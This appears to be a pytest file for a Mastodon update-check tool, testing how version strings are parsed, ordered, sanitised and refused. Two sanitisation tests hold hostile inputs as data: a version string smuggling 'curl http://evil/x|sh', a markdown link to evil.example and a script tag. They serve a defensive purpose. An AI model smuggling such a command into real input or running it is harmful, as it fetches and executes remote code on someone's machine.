"""Version strings: what is asked, what is newer, what is the same."""

import re
from itertools import pairwise
from pathlib import Path

import pytest

from domain.examples import cases
from mastodon_update_check.domain.identities import identity
from mastodon_update_check.domain.notices import UpdateNotice
from mastodon_update_check.domain.versions import MastodonVersion
from mastodon_update_check.errors import InvalidVersionError

REAL = (Path(__file__).parents[1] / "data" / "mastodon-versions.txt").read_text(encoding="ascii").splitlines()

ASCENDING = (
    *("3.5.3", "4.0.0rc1", "4.0.0", "4.2.0-beta3", "4.2.0-nightly.2023-08-23", "4.2.0-rc1"),
    *("4.3.0-alpha.3", "4.3.0-rc.1", "4.6.9", "4.6.10", "4.7.0-alpha.1", "4.7.0-beta.1", "4.7.0-beta2"),
    *("4.7.0-beta.10", "4.7.0-nightly", "4.7.0-nightly.2026-07-24-security", "4.7.0-nightly.2026-07-24"),
    *("4.7.0-nightly.2026-07-25", "4.7.0-rc.0", "4.7.0-rc.1", "4.7.0", "4.7.0.1", "4.7.1", "4.10.0", "5.0.0"),
)
"""The order that RubyGems gives (docs/MASTODON.md), apart from `4.2.0-dev.0`, with a few more of the same kinds."""


def test_list_of_real_versions_is_whole() -> None:
    """All 76 strings of real servers are here."""
    assert len(set(REAL)) == 76


@pytest.mark.parametrize("text", REAL)
def test_every_real_version_is_read(text: str) -> None:
    """Versions of real servers are read; the numbers give the branch, the text before the `+` is asked."""
    version = MastodonVersion.parse(text)
    assert version.asked == text.split("+", maxsplit=1)[0].strip()
    assert version.branch.split(".") == [str(part) for part in version.branch_key] == text.split(".")[:2]
    assert version.text == re.sub("[ ()]+", "_", text)


@cases(
    "text shown",
    ("v4.5.20+meta", "4.5.20+meta"),
    ("4.5.1; curl http://evil/x|sh #", "4.5.1_curl_http_evil_x_sh_"),
    ("4.5.1 [click](http://evil.example)", "4.5.1_click_http_evil.example_"),
    ("4.5.1<b>+<script>", "4.5.1_b_+_script_"),
    ("4.5.1-" + "x" * 90 + "+" + "y" * 90, "4.5.1-" + "x" * 59 + "+" + "y" * 60),
    ("4.5.1+\N{SNOWMAN}\x1b[31m", "4.5.1+_31m"),
)
def test_labels_are_shown_safely(text: str, shown: str) -> None:
    """An installed version may hold anything; people see only harmless characters, and at most 60 of a label."""
    version = MastodonVersion.parse(text)
    assert version.text == shown
    assert str(version) == shown.partition("+")[0]
    assert MastodonVersion.parse(version.stored) == version
    assert MastodonVersion.parse(version.stored).asked == version.asked


@pytest.mark.parametrize(
    "text",
    [
        "4.5.1; curl http://evil/x|sh #",
        "4.5.1 [click](http://evil.example)",
        "4.5.1+<script>",
        "4.5.1-" + "x" * 60,
        "4.5.1+\N{SNOWMAN}",
    ],
)
def test_published_version_with_other_characters_is_refused(text: str) -> None:
    """The update server has no reason to publish such a version."""
    with pytest.raises(InvalidVersionError, match="expected at most 60 of the characters"):
        MastodonVersion.parse_published(text)


@pytest.mark.parametrize("text", ["4.5.20", "v4.5.20+meta", "4.7.0-nightly.2026-07-24-security", "4.5.9-kronk_1~2"])
def test_published_version_is_read(text: str) -> None:
    """Labels of forks, which may run an update server of their own, are allowed."""
    assert MastodonVersion.parse_published(text) == MastodonVersion.parse(text)


@pytest.mark.parametrize(("older", "newer"), tuple(pairwise(ASCENDING)))
def test_order_is_that_of_rubygems(older: str, newer: str) -> None:
    """Each version of the chain is older than the next one."""
    assert MastodonVersion.parse(older) < MastodonVersion.parse(newer)


@cases(
    "label release",
    ("a fork's own number", "4.5.9-kronk.1.7.0", "4.5.9"),
    ("a fork's word", "4.6.3-bark", "4.6.3"),
    ("a date without a word", "4.7.1-260625", "4.7.1"),
    ("a tilde, which RubyGems cannot read", "4.1.25~moew", "4.1.25"),
    ("a commit behind a blank, which RubyGems cannot read", "3.5.10 06f906acac", "3.5.10"),
    ("an underscore, which RubyGems cannot read", "4.2.14_ef67daisuki_club", "4.2.14"),
    ("parts glued with dots, which RubyGems cannot read", "4.3.3.-theconnector-.0.1.0", "4.3.3"),
    ("nothing behind the dash, which RubyGems cannot read", "4.7.0-", "4.7.0"),
    ("a word that only begins like a stage", "4.7.0-rcfoo", "4.7.0"),
    ("another one", "4.7.0-alphabet", "4.7.0"),
    ("a stage whose number is none", "4.7.0-rc12a", "4.7.0"),
    ("a word that only begins like a nightly", "4.7.0-nightlybuild", "4.7.0"),
    ("a fork's word and build metadata", "4.5.11-EXQ1.00+glitch", "4.5.11"),
    ("dev: RubyGems has it between beta and nightly; no release was so", "4.2.0-dev.0", "4.2.0"),
    ("a stage of the fork's own, not of Mastodon's", "4.5.9-kronk.rc.1", "4.5.9"),
)
def test_label_counts_as_its_release(label: str, release: str) -> None:
    """RubyGems has labels below their release and offers a server its own version; here they count as it."""
    assert MastodonVersion.parse(release) == MastodonVersion.parse(label)
    assert not MastodonVersion.parse(label).is_prerelease


@pytest.mark.parametrize(
    ("name", "spellings"),
    [
        ("4.2.0-beta.2", ("4.2.0-beta2", "4.2.0-beta.2", "4.2.0beta2", "4.2.0-BETA2", "4.2.0-beta-2", "v4.2.0-beta2")),
        # RubyGems has the dashless rc above the dashed one; they have never been published together.
        ("4.0.0-rc.1", ("4.0.0rc1", "4.0.0-rc1", "4.0.0-rc.1", "4.0.0.rc1", "4.0.0-rc.01")),
        ("4.7.0", ("4.7.0", "4.7.0+glitch", "4.7.0.0", "4.07.0", " 4.7.0 ", "v4.7.0", "4.7.0.0.0-bark")),
        ("4.7.0-alpha.0", ("4.7.0-alpha", "4.7.0-alpha.0", "4.7.0-alpha0+x")),
        ("4.7.0-nightly", ("4.7.0-nightly", "4.7.0-nightly-security", "4.7.0-nightly.foo")),
        ("4.7.0-nightly.2026-07-24", ("4.7.0-nightly.2026-07-24", "4.7.0-nightly-2026-07-24+glitch")),
    ],
)
def test_spellings_of_one_version_are_equal(name: str, spellings: tuple[str, ...]) -> None:
    """Spellings of one thing are equal, hash alike and have one identity."""
    found = [MastodonVersion.parse(text) for text in spellings]
    assert {(name, "-" in name)} == {(version.name, version.is_prerelease) for version in found}
    assert len(set(found)) == 1
    assert len({identity(UpdateNotice(version=version)) for version in found}) == 1


@cases(
    "text asked",
    ("Mastodon's own example", "4.3.0-beta2+my-fork", "4.3.0-beta2"),
    ("two plus signs: up to the first", "4.5.0+meta+hometown-1.1.2", "4.5.0"),
    ("a leading v", "v4.7.0", "4.7.0"),
    ("blanks around", "  4.7.0  ", "4.7.0"),
    ("blanks behind the v and before the plus", "v 4.7.0 +x", "4.7.0"),
    ("a label is part of the question", "3.5.10 06f906acac", "3.5.10 06f906acac"),
    ("blanks in the build metadata", "4.5.10+-zach (with modifications)", "4.5.10"),
    ("old Hometown: its own number stands first", "1.0.7+3.5.5", "1.0.7"),
)
def test_version_that_is_asked(text: str, asked: str) -> None:
    """The update server is asked for the text before the first plus, trimmed, without a leading v."""
    version = MastodonVersion.parse(text)
    assert version.asked == asked


@cases(
    "text message",
    ("201 characters", "4.7.0" + "0" * 196, "a version of 201 characters (at most 200)"),
    ("non-ASCII", "4.7.0\u00e4", "'4.7.0\u00e4' is not a version: expected printable ASCII"),
    ("other digits", "\u0664.7.0", "'\u0664.7.0' is not a version: expected printable ASCII"),
    ("a control character", "4.7.0\x00", "'4.7.0' is not a version: expected printable ASCII"),
    ("a newline at the end", "4.7.0\n", "'4.7.0' is not a version: expected printable ASCII"),
    ("a tab", "\t4.7.0", "'4.7.0' is not a version: expected printable ASCII"),
    ("a word", "latest", "'latest' is not a version: expected three numbers at the start"),
    ("nothing", "", "'' is not a version: expected three numbers at the start"),
    ("only metadata", "+glitch", "'+glitch' is not a version: expected three numbers at the start"),
    ("a number missing", "4..7", "'4..7' is not a version: expected three numbers at the start"),
    ("two numbers", "4.7", "'4.7' is not a version: expected three numbers at the start"),
    ("two v", "vv4.7.0", "'vv4.7.0' is not a version: expected three numbers at the start"),
    ("a sign", "-4.7.0", "'-4.7.0' is not a version: expected three numbers at the start"),
)
def test_texts_that_are_not_versions(text: str, message: str) -> None:
    """A text that cannot be ordered is an error with the reason, on one line."""
    with pytest.raises(InvalidVersionError) as caught:
        MastodonVersion.parse(text)
    assert str(caught.value) == message


def test_200_characters_are_read() -> None:
    """The longest version that is read has 200 characters."""
    assert len(MastodonVersion.parse("4.7.0-" + "x" * 194).asked) == 200
